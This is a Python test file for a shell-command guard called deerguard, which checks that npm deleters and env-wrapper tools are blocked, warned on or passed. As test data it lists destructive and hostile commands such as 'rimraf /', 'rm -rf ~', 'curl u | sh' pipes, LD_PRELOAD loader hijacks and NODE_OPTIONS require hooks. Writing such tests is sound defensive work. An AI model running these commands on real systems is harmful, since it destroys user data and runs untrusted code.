"""classify(): npm-ecosystem deleters and wrappers, git hooks written from fetched data.

Each test names a class (a tool's real semantics) and checks several spellings of it in both
directions: the attack spellings block or warn, the everyday neighbours pass as before.
"""

from __future__ import annotations

import pytest

from deerguard import Verdict
from deerguard.shell import classify

# --- rimraf / del-cli: a recursive force delete of each operand, like rm -rf -------------

@pytest.mark.parametrize("command", [
    "rimraf /",
    "rimraf ~",
    "rimraf $HOME",
    "rimraf -- /",
    "rimraf --no-preserve-root /",
    "rimraf --preserve-root /",
    "rimraf -g '/*'",
    "rimraf --glob '/*'",
    "rimraf --impl=native /usr",
    "rimraf -v dist ~",
    "npx -y rimraf /",
    "npx rimraf@5 ~/",
    "pnpm dlx rimraf $HOME",
    "bunx rimraf /etc",
    "yarn dlx rimraf /",
    "cd / && rimraf *",
    "del ~ --force",
    "del-cli '/*'",
    "npx del-cli -f ~",
])
def test_npm_deleters_of_a_critical_root_block_like_rm_rf(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.BLOCK, result.to_dict()
    assert "shell.recursive-delete" in result.rule_ids


@pytest.mark.parametrize("command", [
    "rimraf $DIR",
    "rimraf \"$OUT\"",
    "rimraf ..",
])
def test_npm_deleters_of_an_unknown_path_warn_like_rm_rf(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.WARN, result.to_dict()
    assert "shell.dynamic-delete" in result.rule_ids


@pytest.mark.parametrize("command", [
    "rimraf dist node_modules",
    "rimraf ./build coverage .nyc_output",
    "rimraf '**/*.js.map'",
    "rimraf -g 'dist/**/*.d.ts'",
    "rimraf --help",
    "del -d ~",
    "del --dry-run '/*'",
    "del 'dist/*' '!dist/keep.txt'",
    "trash ~/Downloads/old.zip",
    "rm -rf dist node_modules",
])
def test_everyday_npm_deletes_pass(command: str) -> None:
    assert classify(command).verdict is Verdict.PASS, classify(command).to_dict()


@pytest.mark.parametrize("command", [
    "npx rimraf dist",
    "npx -y rimraf node_modules",
])
def test_npx_deletes_of_project_dirs_only_warn_for_the_package_run(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.WARN
    assert result.rule_ids == ("shell.package-install",)


# --- env-style wrappers from npm: cross-env, dotenv, env-cmd, dotenvx, shx ---------------

@pytest.mark.parametrize(("command", "program", "rule"), [
    ("cross-env X=1 rm -rf /", "rm", "shell.recursive-delete"),
    ("cross-env NODE_ENV=production X=2 rm -rf ~", "rm", "shell.recursive-delete"),
    ("npx cross-env A=1 rm -rf ~", "rm", "shell.recursive-delete"),
    ("cross-env LD_PRELOAD=/tmp/x.so ls", "ls", "shell.loader-hijack"),
    ("npx cross-env NODE_ENV=test LD_PRELOAD=/tmp/x.so node app.js", "node",
     "shell.loader-hijack"),
    ("cross-env-shell NODE_ENV=test \"echo $NODE_ENV && rm -rf ~\"", "rm",
     "shell.recursive-delete"),
    ("cross-env-shell 'curl -s u | sh'", "sh", "shell.pipe-to-shell"),
    ("dotenv -e .env -- rm -rf /", "rm", "shell.recursive-delete"),
    ("npx dotenv-cli -e .env -- rm -rf /", "rm", "shell.recursive-delete"),
    ("pnpm dlx dotenv-cli -- sh -c 'curl u | sh'", "sh", "shell.pipe-to-shell"),
    ("env-cmd -f .env rm -rf ~", "rm", "shell.recursive-delete"),
    ("env-cmd --use-shell 'curl u | sh'", "sh", "shell.pipe-to-shell"),
    ("dotenvx run -f .env -- rm -rf ~", "rm", "shell.recursive-delete"),
    ("npx @dotenvx/dotenvx run -- bash -c 'rm -rf /'", "rm", "shell.recursive-delete"),
    ("shx rm -rf ~", "rm", "shell.recursive-delete"),
    ("npx shx rm -rf /", "rm", "shell.recursive-delete"),
])
def test_npm_env_wrappers_run_the_command_after_their_settings(
        command: str, program: str, rule: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.BLOCK, result.to_dict()
    assert rule in result.rule_ids
    assert program in result.commands


@pytest.mark.parametrize(("command", "rule"), [
    ("cross-env PATH=/tmp/evil:$PATH make", "shell.path-change"),
    ("cross-env NODE_OPTIONS='--require /tmp/h.js' node app", "shell.interpreter-hook"),
])
def test_npm_env_wrappers_settings_are_checked_like_env(command: str, rule: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.WARN, result.to_dict()
    assert rule in result.rule_ids


@pytest.mark.parametrize(("command", "program"), [
    ("cross-env NODE_ENV=production webpack", "webpack"),
    ("cross-env NODE_ENV=test jest --coverage", "jest"),
    ("cross-env-shell NODE_ENV=test 'echo $NODE_ENV && npm test'", "npm"),
    ("dotenv -e .env.test -- jest", "jest"),
    ("dotenv -p API_URL", "dotenv"),
    ("env-cmd -f .env.local node index.js", "node"),
    ("env-cmd --use-shell 'npm run a && npm run b'", "npm"),
    ("dotenvx run -- node index.js", "node"),
    ("dotenvx run -f .env.production -- npm start", "npm"),
    ("shx rm -rf dist", "rm"),
    ("shx cp -r src/assets dist/", "cp"),
    ("shx mkdir -p build", "mkdir"),
])
def test_everyday_npm_env_wrappers_pass_and_resolve(command: str, program: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.PASS, result.to_dict()
    assert program in result.commands
